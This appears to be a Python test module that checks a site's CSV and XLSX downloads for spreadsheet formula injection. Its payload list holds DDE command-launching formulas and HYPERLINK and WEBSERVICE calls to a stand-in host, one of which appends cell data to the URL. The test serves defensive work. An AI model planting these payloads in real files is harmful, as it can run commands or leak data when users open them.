"""No cell of any download is a formula, whatever people wrote; and their text is kept.

Every address of the site that answers with a spreadsheet is read with formulas in every row.
"""

import csv
import io
import re
import zipfile
from collections.abc import Iterator
from dataclasses import replace

import pytest
from openpyxl import load_workbook

from tests.attacks.ground import attacked  # noqa: F401 - a fixture
from tests.attacks.laid_hostile import Column, Site, Write
from tests.attacks.places import Place, places
from tests.attacks.test_scripts_in_pages import body_of, read
from tests.saying import Say

FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://canary.example/"&A1,"x")',
    "=cmd|'/C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    '=WEBSERVICE("http://canary.example/")',
    '=IMPORTXML("http://canary.example/","//a")',
    "+1+1",
    "+cmd|'/C calc'!A0",
    "-1+1",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)",
    "@cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "   =1+1",
    "\u3000=1+1",
    "\xa0=1+1",
    "\u2003=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\x01=1+1",
    "\x0b=1+1",
    "\x0c=1+1",
    "\x1f=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "　＝1+1",
    "'=1+1",
    '"=1+1',
    '",=1+1,"',
    "a,=1+1",
    "a\n=1+1",
    "a\r\n=1+1,=1+1",
    ";=1+1",
    "a;=1+1",
    "{=1+1}",
    "=-1",
    "==1+1",
    "=@SUM(1)",
    "%0A=1+1",
    "http://canary.example/",
    "internal:Sheet1!A1",
    "external:c:\\canary.xlsx",
    "mailto:canary@x.example",
)
BEGINS = "=+-@\t\r\n＝＋－＠"
# What some program takes for nothing before a formula.
BLANK = " \xa0\u3000\u2003\u200b\ufeff\u202e\x01\x0b\x0c\x1f"
NUMBER = re.compile(r"[+-]?\d[\d,]*(\.\d+)?%?")
KINDS = ("csv", "xlsx")
SHEETS = re.compile(r"csv|spreadsheet")


def calculating(turn: int, known: dict[str, str]) -> Write:
    """Another formula in each row; `known` hears which, by the mark behind it."""

    def write(column: Column, row: int, _before: str) -> str:
        mark = f"q{column.number}z{row}q"
        known[mark] = FORMULAS[(turn * 17 + row + column.number) % len(FORMULAS)]
        return f"{known[mark]} {mark}"

    return write


def tables(site: Site) -> list[Place]:
    """All that may answer with a spreadsheet: named so, or with a kind to choose."""
    found = []
    for place in places(site.ground, readers=2):
        if re.search(r"csv|xlsx", place.path) or place.route.endswith(("<kind>/", ".<kind>")):
            for kind in KINDS:
                found.append(
                    replace(place, path=re.sub(r"\b(csv|xlsx|docx|pdf)\b", kind, place.path))
                )
    return [*dict.fromkeys(found)]


def _cells(body: bytes, kind: str) -> Iterator[tuple[str, bool]]:
    """(text, whether the file says it is a formula or a link) of every cell."""
    if "csv" in kind:
        text = body.decode("gb18030" if "gb" in kind else "utf-8-sig")
        for row in csv.reader(io.StringIO(text, newline="")):
            yield from ((cell, False) for cell in row)
        return
    with zipfile.ZipFile(io.BytesIO(body)) as packed:
        for name in packed.namelist():
            if name.endswith((".xml", ".rels")):
                told = packed.read(name)
                is_live = re.search(rb"<f[ >]|hyperlink|externalLink|ddeLink|connections", told)
                yield f"{name}: {is_live}" if is_live else "", bool(is_live)
    for sheet in load_workbook(io.BytesIO(body)).worksheets:
        for row in sheet.iter_rows():
            yield from ((_unescaped(str(one.value or "")), one.data_type == "f") for one in row)


def _unescaped(text: str) -> str:
    """Controls as a workbook writes them: `_x000D_` is the end of a line."""
    return re.sub(r"_x([0-9A-F]{4})_", lambda found: chr(int(found[1], 16)), text)


def _begins(text: str) -> bool:
    """Whether a program would run it, blanks in front of it left out or not."""
    bare = text.lstrip(BLANK)
    return bool(text and (text[0] in BEGINS or (bare and bare[0] in BEGINS)))


def _wrong(text: str, is_live: bool, kind: str) -> str:
    if is_live:
        return f"is a formula: {text[:80]!r}"
    if "csv" in kind and _begins(text) and not NUMBER.fullmatch(text):
        return f"begins a formula: {text[:80]!r}"
    return ""


def _lost(text: str, known: dict[str, str]) -> bool:
    """Whether a cell names a row whose formula it has not."""
    for mark in re.findall(r"q\d+z\d+q", text):
        said = _seen(known[mark])
        if said and said not in _seen(text):
            return True
    return False


def _seen(text: str) -> str:
    """Without the control characters that no file may hold, and with one blank for many."""
    return " ".join(re.sub(r"[\x00-\x08\x0e-\x1f]", "", text).split())


def _prove(site: Site, chosen: list[Place], turns: int, title: str, say: Say) -> None:
    hits: list[str] = []
    count = dict.fromkeys(("files", "cells", "cells with a formula"), 0)
    for turn in range(turns):
        known: dict[str, str] = {}
        site.fill(calculating(turn, known))
        for place in chosen:
            answer = read(site, place)
            kind = answer.headers.get("content-type", "")
            if answer.status_code != 200 or not SHEETS.search(kind):
                if answer.status_code >= 500:
                    hits.append(f"{place.path}: {answer.status_code}")
                continue
            count["files"] += 1
            for text, is_live in _cells(body_of(answer), kind):
                count["cells"] += 1
                count["cells with a formula"] += bool(re.search(r"q\d+z\d+q", text))
                if wrong := _wrong(text, is_live, kind):
                    hits.append(f"{place.path}: {wrong}")
                elif _lost(text, known):
                    hits.append(f"{place.path}: lost in {text[:80]!r}")
    say(title, {"formulas": len(FORMULAS), "fields": len(site.columns), **count, "hits": len(hits)})
    assert hits == [], "\n".join(hits)
    assert count["cells with a formula"] > 20


def test_a_sample_of_tables_holds_no_formula(attacked: Site, say: Say) -> None:  # noqa: F811
    _prove(attacked, tables(attacked)[::9], 1, "formulas, sample of tables", say)


@pytest.mark.prove
def test_no_table_holds_a_formula(attacked: Site, say: Say) -> None:  # noqa: F811
    _prove(attacked, tables(attacked), 4, "formulas in every table", say)
